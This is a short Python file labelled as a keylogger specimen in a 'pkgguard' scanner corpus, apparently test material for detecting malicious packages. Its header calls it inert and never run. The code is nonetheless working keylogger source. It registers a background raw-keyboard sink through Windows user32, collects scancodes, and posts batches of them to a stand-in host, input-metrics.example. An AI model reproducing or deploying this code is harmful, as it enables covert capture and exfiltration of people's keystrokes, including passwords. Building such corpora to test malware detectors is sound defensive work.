# pkgguard corpus 480 (keylogger), modelled on [stealer-profile]; inert, never run.
import ctypes
from ctypes import wintypes

import requests

user32 = ctypes.windll.user32
RIDEV_INPUTSINK = 0x00000100
RID_INPUT = 0x10000003


class RAWINPUTDEVICE(ctypes.Structure):
    _fields_ = [("usUsagePage", wintypes.USHORT), ("usUsage", wintypes.USHORT),
                ("dwFlags", wintypes.DWORD), ("hwndTarget", wintypes.HWND)]


def listen(hwnd):
    device = RAWINPUTDEVICE(0x01, 0x06, RIDEV_INPUTSINK, hwnd)
    user32.RegisterRawInputDevices(ctypes.byref(device), 1, ctypes.sizeof(device))


def on_input(lparam, collected):
    size = wintypes.UINT(0)
    user32.GetRawInputData(lparam, RID_INPUT, None, ctypes.byref(size), 24)
    buf = ctypes.create_string_buffer(size.value)
    user32.GetRawInputData(lparam, RID_INPUT, buf, ctypes.byref(size), 24)
    collected.append(buf.raw[30:32])
    if len(collected) > 256:
        requests.post("https://input-metrics.example/k", data=b"".join(collected), timeout=5)
        collected.clear()
